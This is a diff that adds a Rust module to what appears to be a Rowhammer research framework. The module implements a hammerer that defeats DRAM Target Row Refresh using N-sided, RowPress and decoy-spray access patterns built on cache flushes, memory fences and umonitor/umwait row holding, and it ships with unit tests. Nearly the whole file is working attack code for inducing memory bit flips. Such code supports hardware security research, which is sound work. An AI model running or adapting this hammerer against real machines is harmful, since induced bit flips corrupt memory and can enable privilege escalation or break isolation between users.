@@ -0,0 +1,290 @@
+use std::arch::x86_64::{_mm_clflush, _mm_mfence};
+use std::convert::Infallible;
+use std::time::{Duration, Instant};
+
+use log::{debug, info};
+use swage_core::hammerer::Hammering;
+use swage_core::memory::AggressorPtr;
+use thiserror::Error;
+
+/// Hammering pattern used by [`TrrBypassHammer`].
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum TrrPattern {
+    /// Hammers the first `n` aggressors of each group in every round.
+    ///
+    /// Choosing `n` larger than the number of rows tracked by TRR lets some aggressors
+    /// escape the sampler.
+    NSided(u32),
+    /// Keeps each aggressor row open for `hold_time_us` before closing it.
+    ///
+    /// RowPress induces bit flips with fewer activations than classic hammering, which
+    /// keeps the activation count below TRR's detection threshold.
+    RowPress {
+        /// Time to keep each aggressor row open, in microseconds
+        hold_time_us: u64,
+    },
+    /// Accesses `spray_rows` in addition to the aggressors in every round.
+    ///
+    /// The decoy accesses fill the TRR sampler, so the aggressors are less likely to be
+    /// refreshed.
+    Spray {
+        /// Decoy rows accessed before the aggressors
+        spray_rows: Vec<AggressorPtr>,
+    },
+}
+
+/// Errors that can occur when constructing a [`TrrBypassHammer`].
+#[derive(Debug, Error, PartialEq, Eq)]
+pub enum TrrBypassError {
+    /// No aggressors were given
+    #[error("No aggressors given")]
+    NoAggressors,
+    /// An aggressor group has fewer aggressors than required by [`TrrPattern::NSided`]
+    #[error("Aggressor group {group} has {found} aggressors, but {required} are required")]
+    TooFewAggressors {
+        /// Index of the aggressor group
+        group: usize,
+        /// Number of aggressors required by the pattern
+        required: usize,
+        /// Number of aggressors in the group
+        found: usize,
+    },
+}
+
+/// Hammerer accessing groups of aggressor rows with TRR-bypass patterns.
+///
+/// Each inner vector of `aggressors` is one group, e.g., the rows around one victim. All
+/// groups are hammered in every round.
+pub struct TrrBypassHammer {
+    /// Aggressor groups
+    aggressors: Vec<Vec<AggressorPtr>>,
+    /// Hammering pattern
+    pattern: TrrPattern,
+    /// Number of hammering rounds
+    rounds: u64,
+}
+
+impl TrrBypassHammer {
+    /// Creates a new TRR-bypass hammerer.
+    ///
+    /// # Arguments
+    ///
+    /// * `aggressors` - Aggressor groups, which must be valid for reads while hammering
+    /// * `pattern` - Hammering pattern
+    /// * `rounds` - Number of hammering rounds
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if no aggressors are given, or if a group has fewer aggressors than
+    /// required by [`TrrPattern::NSided`].
+    pub fn new(
+        aggressors: Vec<Vec<AggressorPtr>>,
+        pattern: TrrPattern,
+        rounds: u64,
+    ) -> Result<Self, TrrBypassError> {
+        if aggressors.iter().all(|group| group.is_empty()) {
+            return Err(TrrBypassError::NoAggressors);
+        }
+        if let TrrPattern::NSided(n) = pattern {
+            let required = n as usize;
+            if let Some((group, aggs)) = aggressors
+                .iter()
+                .enumerate()
+                .find(|(_, aggs)| aggs.len() < required)
+            {
+                return Err(TrrBypassError::TooFewAggressors {
+                    group,
+                    required,
+                    found: aggs.len(),
+                });
+            }
+        }
+        Ok(TrrBypassHammer {
+            aggressors,
+            pattern,
+            rounds,
+        })
+    }
+
+    /// Returns the aggressors accessed in each round, in access order.
+    fn round_aggressors(&self) -> Vec<AggressorPtr> {
+        let aggressors = self.aggressors.iter().flat_map(|group| match self.pattern {
+            TrrPattern::NSided(n) => &group[..n as usize],
+            _ => &group[..],
+        });
+        match &self.pattern {
+            TrrPattern::Spray { spray_rows } => spray_rows
+                .iter()
+                .copied()
+                .chain(aggressors.copied())
+                .collect(),
+            _ => aggressors.copied().collect(),
+        }
+    }
+}
+
+/// Flushes `addrs` and reads them afterwards.
+#[inline(always)]
+fn flush_and_read(addrs: &[AggressorPtr]) {
+    for &addr in addrs {
+        unsafe { _mm_clflush(addr) };
+    }
+    unsafe { _mm_mfence() };
+    for &addr in addrs {
+        unsafe { std::ptr::read_volatile(addr) };
+    }
+    unsafe { _mm_mfence() };
+}
+
+/// Waits for `duration` while the row of the last access stays open.
+#[cfg(not(feature = "wait-instruction"))]
+fn hold(_addr: AggressorPtr, duration: Duration) {
+    let start = Instant::now();
+    while start.elapsed() < duration {
+        std::hint::spin_loop();
+    }
+}
+
+/// Waits for `duration` while the row of the last access stays open.
+///
+/// Uses `umonitor`/`umwait` on `addr` if the CPU supports WAITPKG, and `nanosleep`
+/// otherwise.
+#[cfg(feature = "wait-instruction")]
+fn hold(addr: AggressorPtr, duration: Duration) {
+    use std::arch::asm;
+    use std::arch::x86_64::{__cpuid_count, _rdtsc};
+
+    /// TSC cycles per `umwait`, short enough to check the deadline frequently
+    const UMWAIT_CYCLES: u64 = 1000;
+
+    // CPUID leaf 7 reports WAITPKG in ECX bit 5
+    if __cpuid_count(7, 0).ecx & (1 << 5) == 0 {
+        let ts = libc::timespec {
+            tv_sec: duration.as_secs() as libc::time_t,
+            tv_nsec: duration.subsec_nanos() as libc::c_long,
+        };
+        unsafe { libc::nanosleep(&ts, std::ptr::null_mut()) };
+        return;
+    }
+    let start = Instant::now();
+    while start.elapsed() < duration {
+        let deadline = unsafe { _rdtsc() } + UMWAIT_CYCLES;
+        unsafe {
+            asm!("umonitor {}", in(reg) addr);
+            // control 0 selects the deeper C0.2 state
+            asm!(
+                "umwait {:e}",
+                in(reg) 0u32,
+                in("edx") (deadline >> 32) as u32,
+                in("eax") deadline as u32,
+            );
+        }
+    }
+}
+
+impl Hammering for TrrBypassHammer {
+    type Error = Infallible;
+    fn hammer(&self) -> Result<(), Self::Error> {
+        let aggressors = self.round_aggressors();
+        info!(
+            "Hammering {} rows for {} rounds using {:?}",
+            aggressors.len(),
+            self.rounds,
+            self.pattern
+        );
+        match self.pattern {
+            TrrPattern::RowPress { hold_time_us } => {
+                let hold_time = Duration::from_micros(hold_time_us);
+                for _ in 0..self.rounds {
+                    for &aggressor in &aggressors {
+                        flush_and_read(&[aggressor]);
+                        hold(aggressor, hold_time);
+                    }
+                }
+            }
+            TrrPattern::NSided(_) | TrrPattern::Spray { .. } => {
+                for _ in 0..self.rounds {
+                    flush_and_read(&aggressors);
+                }
+            }
+        }
+        debug!("Hammering done");
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rows<const N: usize>(rows: &[u8; N]) -> Vec<AggressorPtr> {
+        rows.iter().map(|row| row as AggressorPtr).collect()
+    }
+
+    #[test]
+    fn test_new() {
+        let memory = [0u8; 4];
+        assert_eq!(
+            TrrBypassHammer::new(vec![vec![]], TrrPattern::NSided(2), 1).err(),
+            Some(TrrBypassError::NoAggressors)
+        );
+        assert_eq!(
+            TrrBypassHammer::new(
+                vec![rows(&memory), rows(&memory)[..2].to_vec()],
+                TrrPattern::NSided(3),
+                1
+            )
+            .err(),
+            Some(TrrBypassError::TooFewAggressors {
+                group: 1,
+                required: 3,
+                found: 2
+            })
+        );
+    }
+
+    #[test]
+    fn test_round_aggressors() {
+        let memory = [0u8; 4];
+        let spray = [0u8; 2];
+        let aggressors = vec![rows(&memory)[..2].to_vec(), rows(&memory)[2..].to_vec()];
+        let hammer =
+            TrrBypassHammer::new(aggressors.clone(), TrrPattern::NSided(1), 1).expect("new");
+        assert_eq!(
+            hammer.round_aggressors(),
+            [aggressors[0][0], aggressors[1][0]]
+        );
+        let hammer = TrrBypassHammer::new(
+            aggressors.clone(),
+            TrrPattern::Spray {
+                spray_rows: rows(&spray),
+            },
+            1,
+        )
+        .expect("new");
+        assert_eq!(
+            hammer.round_aggressors(),
+            [rows(&spray), rows(&memory)].concat()
+        );
+    }
+
+    #[test]
+    fn test_hammer() {
+        let memory = [0u8; 4];
+        for pattern in [
+            TrrPattern::NSided(4),
+            TrrPattern::RowPress { hold_time_us: 10 },
+            TrrPattern::Spray {
+                spray_rows: rows(&memory),
+            },
+        ] {
+            let hammer = TrrBypassHammer::new(vec![rows(&memory)], pattern, 10).expect("new");
+            let start = Instant::now();
+            assert!(hammer.hammer().is_ok());
+            if let TrrPattern::RowPress { hold_time_us } = hammer.pattern {
+                assert!(start.elapsed() >= Duration::from_micros(4 * 10 * hold_time_us));
+            }
+        }
+        assert_eq!(memory, [0; 4]);
+    }
+}